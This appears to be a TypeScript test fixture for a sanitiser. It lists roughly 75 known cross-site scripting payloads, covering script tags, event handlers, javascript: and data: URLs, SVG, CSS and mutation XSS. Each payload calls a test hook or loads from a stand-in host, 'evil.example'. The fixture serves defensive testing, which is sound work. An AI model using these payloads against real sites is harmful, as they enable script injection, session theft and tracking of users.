/** A host no test serves: any request to it means injected markup loaded something. */
export const foreignOrigin = 'https://evil.example';

const b64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');

/**
 * Known cross-site scripting payloads. Each calls `__xss(id)` when it runs (the test installs that
 * hook in every frame) or loads something from `foreignOrigin`, so either shows up in the test.
 */
const templates: readonly ((call: string) => string)[] = [
  // script tags and their disguises
  (c) => `<script>${c}</script>`,
  () => `<SCRIPT SRC=${foreignOrigin}/x.js></SCRIPT>`,
  (c) => `<<script>script>${c}<</script>/script>`,
  (c) => `<scr<script>ipt>${c}</scr</script>ipt>`,
  (c) => `"><script>${c}</script>`,
  (c) => `'><script>${c}</script>`,
  (c) => `</textarea><script>${c}</script>`,
  (c) => `</title><script>${c}</script>`,
  (c) => `</code></pre><script>${c}</script>`,
  // event handlers
  (c) => `<img src=x onerror=${c}>`,
  (c) => `<img src="x" onerror="${c}">`,
  (c) => `<img src=x:x onerror=${c}//`,
  (c) => `<svg onload=${c}>`,
  (c) => `<svg/onload=${c}>`,
  (c) => `<body onload=${c}>`,
  (c) => `<details open ontoggle=${c}>`,
  (c) => `<input autofocus onfocus=${c}>`,
  (c) => `<select autofocus onfocus=${c}></select>`,
  (c) => `<textarea autofocus onfocus=${c}></textarea>`,
  (c) => `<video><source onerror=${c}></video>`,
  (c) => `<audio src=x onerror=${c}>`,
  (c) => `<marquee onstart=${c}>m</marquee>`,
  (c) => `<div onmouseover="${c}" style="position:fixed;inset:0">hover</div>`,
  (c) => `<x contenteditable autofocus onblur=${c}>x</x>`,
  (c) => `<img src=x onerror=&#x5f;&#x5f;xss(${c.slice(6, -1)})>`,
  () => `<img src=x onerror="import('${foreignOrigin}/m.js')">`,
  // javascript: URLs, raw and in markdown
  (c) => `<a href="javascript:${c}">link</a>`,
  (c) => `<a href="jav&#x09;ascript:${c}">tab</a>`,
  (c) => `<iframe src="javascript:${c}"></iframe>`,
  (c) => `<form action="javascript:${c}"><button>go</button></form>`,
  (c) => `<object data="javascript:${c}"></object>`,
  (c) => `<embed src="javascript:${c}">`,
  (c) => `<meta http-equiv="refresh" content="0;url=javascript:${c}">`,
  (c) => `[click](javascript:${c})`,
  (c) => `[click](JaVaScRiPt:${c})`,
  (c) => `[click](javascript&#58;${c})`,
  (c) => `[click](&#106;avascript:${c})`,
  (c) => `[ref][x]\n\n[x]: javascript:${c}`,
  (c) => `![img](javascript:${c})`,
  (c) => `![x](x" onerror="${c})`,
  (c) => `[a](${foreignOrigin}/"onmouseover="${c})`,
  // SVG
  (c) => `<svg><script>${c}</script></svg>`,
  (c) => `<svg><a xlink:href="javascript:${c}"><text y="20">x</text></a></svg>`,
  (c) => `<svg><animate onbegin=${c} attributeName=x dur=1s>`,
  (c) => `<svg><set onbegin=${c} attributeName=x to=1>`,
  () => `<svg><image href="${foreignOrigin}/i.png"/></svg>`,
  // markdown image tricks and remote loads
  () => `![pixel](${foreignOrigin}/pixel.png)`,
  () => `<img src="${foreignOrigin}/pixel.png">`,
  () => `<img srcset="${foreignOrigin}/a.png 1x">`,
  () => `<input type="image" src="${foreignOrigin}/i.png">`,
  () => `<table background="${foreignOrigin}/t.png"><tr><td>t</td></tr></table>`,
  // CSS
  () => `<style>@import '${foreignOrigin}/x.css';</style>`,
  () => `<div style="background:url(${foreignOrigin}/bg.png)">css</div>`,
  () => `<link rel=stylesheet href=${foreignOrigin}/s.css>`,
  (c) => `<div style="width:expression(${c})">ie</div>`,
  // data: URLs
  (c) => `<iframe src="data:text/html;base64,${b64(`<script>parent.${c}</script>`)}"></iframe>`,
  (c) => `[data](data:text/html;base64,${b64(`<script>${c}</script>`)})`,
  (c) => `<a href="data:text/html,<script>${c}</script>">d</a>`,
  (c) =>
    `<img src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${c}"/>`)}">`,
  (c) =>
    `![svg](data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg"><script>${c}</script></svg>`)})`,
  (c) => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`,
  // entities and escapes that a second decoding would turn into markup
  (c) => `&lt;img src=x onerror=${c}&gt;`,
  (c) => `&#60;script&#62;${c}&#60;/script&#62;`,
  (c) => `\\u003cscript\\u003e${c}\\u003c/script\\u003e`,
  (c) => `%3Cscript%3E${c}%3C/script%3E`,
  (c) => `\`<img src=x onerror=${c}>\``,
  (c) => `<!--<img src="--><img src=x onerror=${c}//">`,
  // mutation XSS: markup that changes meaning when parsed, serialised and parsed again
  (c) => `<math><mtext><table><mglyph><style><img src=x onerror=${c}>`,
  (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
  (c) => `<svg><style><img src=x onerror=${c}></style></svg>`,
  (c) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${c} src>">`,
  (c) => `<div>\n\n<img src=x onerror=${c}>\n\n</div>`,
  // other contexts
  () => `<base href="${foreignOrigin}/">`,
  (c) => `{{constructor.constructor('${c}')()}}`,
  (c) => `\${${c}}`,
];

export type XssPayload = { id: number; text: string };

/** Every payload, each calling the hook with its own id. */
export const xssPayloads: readonly XssPayload[] = templates.map((template, id) => ({
  id,
  text: template(`__xss(${id})`),
}));
